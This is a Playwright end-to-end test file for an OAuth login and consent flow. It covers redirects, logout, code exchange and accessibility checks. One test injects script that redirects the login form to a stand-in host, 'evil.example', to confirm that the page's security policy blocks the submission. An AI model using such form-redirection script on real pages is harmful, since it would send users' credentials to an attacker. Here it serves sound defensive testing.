"""The login and consent pages in a real browser: the way through, the look, the policy."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page

from devorg.apps.passwords import DEFAULT_PASSWORD
from devorg.server import RunningOrg
from tests.devorg.oauth.flow import ROSA, change_app, exchange, words_of
from tests.devorg.oauth.flow import Browser as Visitor

pytestmark = pytest.mark.e2e


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page that must report no error, not even of its security policy."""
    context = browser.new_context(viewport={"width": 390, "height": 844})
    opened = context.new_page()
    errors: list[str] = []
    opened.on("console", lambda said: errors.append(said.text) if said.type == "error" else None)
    yield opened
    context.close()
    # A browser asks the callback's site for an icon, too, and has none there.
    assert not [each for each in errors if "Failed to load resource" not in each]


@pytest.fixture
def callback(app_org: RunningOrg) -> str:
    """A callback on another site, which is this org by another name."""
    url = app_org.url.replace("127.0.0.1", "localhost") + "/services/data"
    change_app(app_org, callbackUrls=[url])
    return url


def log_in(page: Page, password: str = DEFAULT_PASSWORD) -> None:
    """Fill in the login page by keyboard."""
    page.get_by_label("Username").fill(ROSA)
    page.get_by_label("Password").fill(password)
    page.keyboard.press("Enter")


def test_a_person_logs_in_and_allows_the_app(
    app_org: RunningOrg, visitor: Visitor, page: Page, callback: str
) -> None:
    """X16: through both pages and back; the pages' policy lets exactly this redirect pass."""
    asked = {"scope": "api refresh_token", "redirect_uri": callback}
    page.goto(visitor.address(**asked, state="s"))
    log_in(page)
    page.get_by_role("button", name="Allow").click()
    page.wait_for_url(f"{callback}?*")
    code = words_of(page.url)["code"]
    assert exchange(app_org, code, redirect_uri=callback).status_code == 200
    page.goto(visitor.address(**asked, state="t"))
    assert words_of(page.url)["state"] == "t"
    page.goto(visitor.address(**asked, state="u", prompt="login"))
    log_in(page)
    page.wait_for_url(f"{callback}?*state=u")


def test_a_person_who_is_not_them_logs_in_as_another(visitor: Visitor, page: Page) -> None:
    """X16: "Not you?" logs out."""
    page.goto(visitor.address())
    log_in(page)
    page.get_by_role("link", name="Not you?").click()
    page.get_by_role("heading", name="You're logged out").wait_for()
    page.goto(visitor.address())
    assert page.get_by_label("Username").is_visible()


def test_a_form_cannot_be_turned_to_another_site(visitor: Visitor, browser: Browser) -> None:
    """X16: what was typed goes to the org, or to the app's callback after it."""
    page = browser.new_page()
    page.goto(visitor.address())
    policy = page.evaluate(
        """() => new Promise((done) => {
          document.addEventListener("securitypolicyviolation", (e) => done(e.violatedDirective));
          document.forms[0].action = "https://evil.example/";
          document.forms[0].noValidate = true;
          document.forms[0].requestSubmit();
        })"""
    )
    assert policy == "form-action"
    assert urlsplit(page.url).hostname == "127.0.0.1"
    page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_the_pages_are_accessible_and_fit(
    browser: Browser, visitor: Visitor, scheme: Any, width: int
) -> None:
    """X16: WCAG as far as axe sees, on a phone and a desk, in light and dark."""
    context = browser.new_context(color_scheme=scheme, viewport={"width": width, "height": 844})
    opened = context.new_page()
    opened.goto(visitor.address())

    def check() -> None:
        found = [each["id"] for each in Axe().run(opened).response["violations"]]
        assert found == []
        assert opened.evaluate("document.documentElement.scrollWidth") == width

    check()
    log_in(opened, "wrong")
    opened.get_by_role("alert").wait_for()
    check()
    log_in(opened)
    opened.get_by_role("button", name="Allow").wait_for()
    check()
    context.close()
